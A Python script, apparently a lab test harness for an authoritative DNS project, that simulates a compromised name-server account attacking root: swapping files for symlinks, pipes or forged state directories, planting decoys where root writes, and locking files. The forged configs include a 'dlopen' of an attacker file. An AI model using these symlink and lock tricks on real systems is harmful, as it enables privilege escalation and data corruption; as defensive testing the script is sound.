# Copyright: (c) 2026, The authoritative.dns maintainers
# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""What somebody tries who took a name server over and has its user's rights: to have root write, or remove, in the wrong place.

    attack.py list TREE                    names that can be taken by something else, as JSON
    attack.py replace NAME KIND TRAP       put a link into the trap, a pipe, or state in the place of NAME; KIND: file, directory, nowhere, pipe, state
    attack.py restore NAME
    attack.py plant TREE KIND TRAP         put them where root is expected to make something, wherever that can be written
    attack.py unplant TREE …
    attack.py overrun TRAP FIRST TREE …    all of that at once; FIRST: the number of the kind with which it begins; how many there are, as JSON
    attack.py lock TREE …                  lock every file that can be opened, until the end

It needs Python's standard library alone, and runs on a host of the lab too.
"""

from __future__ import annotations

import contextlib
import fcntl
import hashlib
import json
import os
import shutil
import stat
import sys
import time

EXPECTED = (
    *("authoritative", "authoritative-zones", "authoritative/current", "database", "secondary", "transferred", "slaves"),
    *("transferred.example", "transferred.example.jnl", "transferred.example.ixfr", "pdns.sqlite3", "pdns.sqlite3-wal", "pdns.sqlite3-shm"),
    *("pdns.sqlite3-journal", "reload-pending", "current.new", "lock", ".lock"),
)
PLANTED = ".planted"
KINDS = ("file", "directory", "nowhere", "state")


def writable(tree):
    """Directories where names can be changed."""
    waiting = [tree]
    while waiting:
        directory = waiting.pop()
        if os.access(directory, os.W_OK | os.X_OK):
            yield directory
        with contextlib.suppress(PermissionError, FileNotFoundError), os.scandir(directory) as entries:
            waiting += [entry.path for entry in entries if entry.is_dir(follow_symlinks=False)]


def can_rename(path):
    directory = os.stat(os.path.dirname(path))
    sticky = directory.st_mode & stat.S_ISVTX and os.geteuid() not in (directory.st_uid, os.lstat(path).st_uid)
    return not sticky


def put(path, kind, trap):
    if kind == "pipe":
        os.mkfifo(path, 0o666)
    elif kind == "state":
        put_state(path, trap)
    else:
        os.symlink(os.path.join(trap, {"file": "file", "directory": "", "nowhere": "made"}[kind]), path)


def put_state(path, trap):
    """A directory such as root keeps its state in, sound at the first look, that names what is in the trap wherever it can."""
    generation = os.path.join(path, "generation-taken")
    os.makedirs(generation)
    os.chmod(path, 0o755)
    os.symlink("generation-taken", os.path.join(path, "current"))
    for name in ("reload-pending", "lock", "current.new"):
        put(os.path.join(path, name), "file", trap)
    inside = os.path.relpath(os.path.join(trap, "file"), generation)
    named = {"taken.example": inside, "taken.test": os.path.join(trap, "file")}
    texts = {
        "zones.conf": f'// zone taken.example\nzone "taken.example" {{ type primary; file "{trap}/file"; journal "{trap}/made"; }};\n'
        f'dlz "taken" {{ database "dlopen {trap}/file"; }};\ninclude "{trap}/file";\n',
        "keys.conf": f'include "{trap}/file";\n',
    }
    files = {}
    for name, text in texts.items():
        with open(os.path.join(generation, name), "w", encoding="utf-8") as stream:
            stream.write(text)
        status = os.stat(os.path.join(generation, name))
        files[name] = [hashlib.sha256(text.encode()).hexdigest(), status.st_size, status.st_mtime_ns, None]
    notes = {"secondary": named, "forget": named, "leaving": list(named), "catalogs": [], "tsig_generations": [], "removed": {}}
    with open(os.path.join(generation, "manifest.json"), "w", encoding="utf-8") as stream:
        json.dump({"files": files, "notes": notes}, stream)


def remove(path):
    if os.path.isdir(path) and not os.path.islink(path):
        shutil.rmtree(path)
    else:
        os.unlink(path)


def is_planted(path):
    """Whether it is of the kinds that are put in the place of others."""
    return os.path.islink(path) or os.path.isfile(os.path.join(path, "generation-taken/manifest.json")) or stat.S_ISFIFO(os.lstat(path).st_mode)


def attack(what, *arguments):
    if what == "list":
        names = [os.path.join(directory, name) for directory in writable(arguments[0]) for name in os.listdir(directory)]
        return sorted(name for name in names if can_rename(name) and not stat.S_ISSOCK(os.lstat(name).st_mode))
    if what == "replace":
        name, kind, trap = arguments
        if not os.path.lexists(name):
            return False
        os.rename(name, name + PLANTED)
        put(name, kind, trap)
    elif what == "restore":
        (name,) = arguments
        with contextlib.suppress(FileNotFoundError):
            remove(name)
        os.rename(name + PLANTED, name)
    elif what == "plant":
        tree, kind, trap = arguments
        planted = []
        for directory in list(writable(tree)):  # not in what is planted
            for name in EXPECTED:
                path = os.path.join(directory, name)
                with contextlib.suppress(OSError):
                    if os.path.lexists(path + PLANTED):
                        continue
                    if os.path.lexists(path):
                        os.rename(path, path + PLANTED)
                    put(path, kind, trap)
                    planted.append(path)
        return planted
    elif what == "unplant":
        for directory in (found for tree in arguments for found in writable(tree)):  # from above, so that what gets its name back is looked at as well
            for name in os.listdir(directory):
                path = os.path.join(directory, name)
                if name in EXPECTED and is_planted(path):
                    remove(path)
                elif name.endswith(PLANTED):
                    with contextlib.suppress(FileNotFoundError):
                        remove(path[: -len(PLANTED)])
                    os.rename(path, path[: -len(PLANTED)])
    elif what == "overrun":
        trap, first, *trees = arguments
        taken = [name for tree in trees for name in attack("list", tree)]
        for number, name in enumerate(sorted(taken, reverse=True), int(first)):  # what is in a directory before the directory
            attack("replace", name, KINDS[number % len(KINDS)], trap)
        return {"taken": len(taken), "planted": sum(len(attack("plant", tree, KINDS[int(first) % len(KINDS)], trap)) for tree in trees)}
    elif what == "lock":
        held = []
        for directory, files in ((found, names) for tree in arguments for found, _directories, names in os.walk(tree)):
            for name in [".", *files]:
                with contextlib.suppress(OSError):
                    descriptor = os.open(os.path.join(directory, name), os.O_RDONLY | os.O_NONBLOCK)
                    fcntl.flock(descriptor, fcntl.LOCK_EX | fcntl.LOCK_NB)
                    held.append(descriptor)
        print("locked", flush=True)
        time.sleep(1800)
    return True


if __name__ == "__main__":
    json.dump(attack(*sys.argv[1:]), sys.stdout)
